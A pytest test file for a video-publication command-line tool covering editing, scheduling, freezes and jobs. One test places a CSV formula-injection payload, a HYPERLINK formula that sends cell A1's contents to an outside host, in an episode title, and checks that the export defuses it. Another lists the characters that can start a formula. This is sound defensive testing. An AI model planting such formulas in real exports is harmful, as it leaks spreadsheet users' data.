"""Decisions by the command line: form, chapters, approval, instants, withdrawal."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest

from pasvu.channel.models import Episode, JournalEntry, Publication, ViewSnapshot
from pasvu.channel.spreadsheet import harmless
from pasvu.channel.states import EpisodeState, PublicationState

from .conftest import NOW, Line, make_reviewable


def plain(sentence: str) -> str:
    return sentence.replace("\u202f", " ")


def test_the_form(line: Line, reviewable: Episode) -> None:
    line.call("episode", "set", reviewable.id, "title=L’hôpital = notre affaire", "tags=santé, hôpital")
    document = line.ask("episode", "show", reviewable.id)
    assert document["title"] == "L’hôpital = notre affaire"
    assert document["tags"] == ["santé", "hôpital"]
    assert line.refused("episode", "set", reviewable.id, "title=")
    assert "colour" in line.refused("episode", "set", reviewable.id, "colour=red")
    assert line.ask("episode", "show", reviewable.id) == document


def test_chapters_from_a_file(line: Line, reviewable: Episode, tmp_path: Path) -> None:
    file = tmp_path / "chapitres.txt"
    file.write_text("0:05 Ouverture\n0:20 Débat\n")
    line.call("episode", "chapters", reviewable.id, file)
    assert line.ask("episode", "show", reviewable.id)["chapters"] == [
        {"start_s": 5.0, "title": "Ouverture"},
        {"start_s": 20.0, "title": "Débat"},
    ]
    file.write_text("tout à l’heure Ouverture\n")
    assert "chapitres.txt" in line.refused("episode", "chapters", reviewable.id, file)
    file.write_bytes(b"\xff\xfe0:05")
    assert "chapitres.txt" in line.refused("episode", "chapters", reviewable.id, file)


def test_a_cut_outside_the_recording_is_refused(line: Line, reviewable: Episode) -> None:
    assert "sort de l’enregistrement" in line.refused("episode", "trim", reviewable.id, "0:10", "1:10")
    assert line.refused("episode", "trim", reviewable.id, "dix", "20")
    line.call("episode", "trim", reviewable.id, "0:00:10.500", "50")
    document = line.ask("episode", "show", reviewable.id)
    assert (document["trim"]["start_s"], document["trim"]["end_s"]) == (10.5, 50.0)
    assert document["state"] == "processing"
    assert "pas prêt" in line.refused("episode", "approve", reviewable.id)


def test_a_stretch_out_of_the_middle(line: Line, reviewable: Episode) -> None:
    assert line.refused("episode", "cut", reviewable.id, "0:30", "0:20")
    line.call("episode", "cut", reviewable.id, "0:20", "0:00:25.5")
    document = line.ask("episode", "show", reviewable.id)
    assert document["trim"]["removed"] == [{"start_s": 20.0, "end_s": 25.5}]
    assert document["state"] == "processing"
    assert "0:20" in line.call("episode", "show", reviewable.id).stdout
    line.call("episode", "cut", reviewable.id, "0", "1:00", "--back")
    assert line.ask("episode", "show", reviewable.id)["trim"]["removed"] == []
    assert "Rien" in line.refused("episode", "cut", reviewable.id, "0", "1:00", "--back")


def test_sent_back_and_withdrawn(line: Line, reviewable: Episode) -> None:
    assert line.run("episode", "send-back", reviewable.id).exit_code == 2
    assert "vide" in line.refused("episode", "send-back", reviewable.id, "--note", " ")
    line.call("episode", "send-back", reviewable.id, "--note", "Couper l’introduction.")
    document = line.ask("episode", "show", reviewable.id)
    assert (document["state"], document["state_reason"]) == ("changes_requested", "Couper l’introduction.")
    line.call("episode", "withdraw", reviewable.id)
    assert line.ask("episode", "show", reviewable.id)["state"] == "withdrawn"
    assert "retiré" in line.refused("episode", "approve", reviewable.id)
    assert Path(document["recording"]["parts"][0]["path"]).exists(), "files are kept"


@pytest.mark.parametrize(
    ("at", "said", "readings"),
    [
        ("2027-03-28T02:30", "n’existe pas", ("2027-03-28T01:30+01:00", "2027-03-28T03:30+02:00")),
        ("2027-10-31T02:30", "arrive deux fois", ("2027-10-31T02:30+01:00", "2027-10-31T02:30+02:00")),
    ],
)
def test_an_instant_that_the_clocks_skip_or_repeat(
    line: Line, reviewable: Episode, at: str, said: str, readings: tuple[str, str]
) -> None:
    line.call("episode", "approve", reviewable.id)
    sentence = line.refused("schedule", reviewable.id, "--at", at)
    assert said in sentence
    for reading in readings:
        assert reading in sentence
    assert line.ask("episode", "show", reviewable.id)["publications"] == []
    # Either reading is taken as it is written.
    line.call("schedule", reviewable.id, "--at", readings[1])
    (planned,) = line.ask("episode", "show", reviewable.id)["publications"]
    assert datetime.fromisoformat(planned["scheduled_at"]) == datetime.fromisoformat(readings[1])


def test_an_instant_is_read_in_the_channels_zone(line: Line, reviewable: Episode) -> None:
    line.call("episode", "approve", reviewable.id)
    for at, meant in (
        ("2027-01-10T19:00", "2027-01-10T18:00:00Z"),
        ("2027-07-10T19:00", "2027-07-10T17:00:00Z"),
        ("2027-01-10T19:00Z", "2027-01-10T19:00:00Z"),
        ("2027-01-10T19:00:30.75Z", "2027-01-10T19:00:30Z"),
    ):
        line.call("schedule", reviewable.id, "--at", at)
        (planned,) = line.ask("episode", "show", reviewable.id)["publications"]
        assert planned["scheduled_at"] == meant
        assert planned["state"] == "planned"
    for at in ("demain", "2027-01-10", "2020-01-10T19:00", "2027-13-10T19:00"):
        assert line.refused("schedule", reviewable.id, "--at", at)
    assert "youtube" in line.refused("schedule", reviewable.id, "--at", "2027-01-10T19:00", "--platform", "minitel")
    line.call("unschedule", reviewable.id)
    assert line.ask("episode", "show", reviewable.id)["publications"][0]["scheduled_at"] is None
    assert "pas programmé" in line.refused("unschedule", reviewable.id)


def test_nothing_is_planned_before_it_is_approved(line: Line, reviewable: Episode) -> None:
    assert "n’est pas validé" in line.refused("schedule", reviewable.id, "--at", "2027-01-10T19:00")


def test_everything_is_written_down_under_the_console(line: Line, reviewable: Episode) -> None:
    line.call("episode", "approve", reviewable.id)
    line.call("schedule", reviewable.id, "--at", "2027-01-10T19:00")
    with line.record.read() as session:
        entries = session.query(JournalEntry).filter_by(episode_id=reviewable.id, actor="console").all()
    assert [entry.action for entry in entries] == ["episode.state", "publication.schedule"]


def test_an_ambiguous_name_is_refused_with_the_choices(line: Line, reviewable: Episode, tmp_path: Path) -> None:
    make_reviewable(line, tmp_path, "Une nuit au tribunal")
    sentence = line.refused("episode", "show", "une-nuit")
    assert "une-nuit-au-tribunal" in sentence
    assert reviewable.slug in sentence


def test_figures_are_exported_as_text_that_no_spreadsheet_runs(line: Line, reviewable: Episode, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://example.org/?"&A1;"cliquez")'
    line.call("episode", "set", reviewable.id, f"title={evil}")
    record = line.record
    with record.write() as session:
        episode = session.get_one(Episode, reviewable.id)
        episode.state = EpisodeState.ON_AIR
        publication = Publication(
            platform="youtube", marker="m", state=PublicationState.ON_AIR, video_id="-x1", air_at=NOW
        )
        episode.publications.append(publication)
        session.flush()
        session.add(ViewSnapshot(publication_id=publication.id, taken_at=int(NOW.timestamp()), views=1234))
    record.close()
    table = tmp_path / "vues.csv"
    line.call("views", "export", "--csv", table)
    with table.open(newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    assert row["title"] == f"'{evil}"
    assert row["video_id"] == "'-x1"
    assert row["views"] == "1234"
    assert datetime.fromisoformat(row["taken_at"]) == NOW.astimezone(UTC)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff20"])
def test_every_way_to_begin_a_formula_is_defused(start: str) -> None:
    assert harmless(f"{start}1+1") == f"'{start}1+1"
    assert harmless(f"a{start}1+1") == f"a{start}1+1"


def test_a_preparation_is_stopped_and_taken_up_again(line: Line, reviewable: Episode) -> None:
    line.call("episode", "trim", reviewable.id, "10", "50")
    job = f"ingest:{reviewable.id}:2:1"
    assert "`pasvu jobs`" in line.refused("job", "cancel", job), "no worker has asked for it yet"
    from pasvu.channel.engine import Jobs

    jobs = Jobs(line.record.url)
    jobs.enqueue("ingest", "ingest", job, reviewable.id, 2, job)
    jobs.close()
    (listed,) = line.ask("jobs")
    assert (listed["id"], listed["state"], listed["episode"]) == (job, "waiting", reviewable.id)
    line.call("job", "cancel", job)
    document = line.ask("episode", "show", reviewable.id)
    assert (document["state"], document["job_state"]) == ("processing", "cancelled")
    assert plain(document["state_reason"]) == "Préparation arrêtée par console."
    assert line.ask("jobs")[0]["state"] == "cancelled"
    assert "déjà terminé" in line.refused("job", "cancel", job)
    line.call("job", "retry", job)
    assert line.ask("episode", "show", reviewable.id)["job_state"] is None
    assert "Rien à relancer" in line.refused("job", "retry", job)


def test_freezes(line: Line, reviewable: Episode) -> None:
    frozen = ("--from", "2026-11-27T00:00", "--until", "2026-11-29T20:00", "--reason", "Silence électoral")
    made = line.ask("freeze", "add", *frozen)
    assert (made["since"], made["until"]) == ("2026-11-26T23:00:00Z", "2026-11-29T19:00:00Z")
    assert line.ask("freeze", "list") == [made]
    line.call("episode", "approve", reviewable.id)
    instant = ("--at", "2026-11-28T19:00")
    assert "Silence électoral" in line.refused("schedule", reviewable.id, *instant)
    assert line.run("schedule", reviewable.id, *instant, "--despite-freeze", "Droit de réponse").exit_code == 2
    line.call("user", "add", "Nadia", "--role", "producer")
    line.call("schedule", reviewable.id, *instant, "--despite-freeze", "Droit de réponse", "--by", "Nadia")
    (let_through,) = line.ask("freeze", "list")[0]["overrides"]
    assert (let_through["by"], let_through["reason"]) == ("nadia", "Droit de réponse")
    number = str(made["id"])
    assert "déjà autorisé" in line.refused(
        "freeze", "allow", number, reviewable.id, "--reason", "Encore", "--by", "Nadia"
    )
    line.call("freeze", "lift", number)
    assert line.ask("freeze", "list") == []
    assert line.ask("freeze", "list", "--all")[0]["lifted_by"] == "console"


def test_what_is_spent(line: Line) -> None:
    document = line.ask("quota")
    assert [(bucket["name"], bucket["spent"]) for bucket in document["buckets"]] == [
        ("insert", 0), ("search", 0), ("general", 0), ("stats", 0)
    ]  # fmt: skip
    assert document["forecast"]["fits"]
    assert "à minuit en Californie" in line.call("quota").stdout
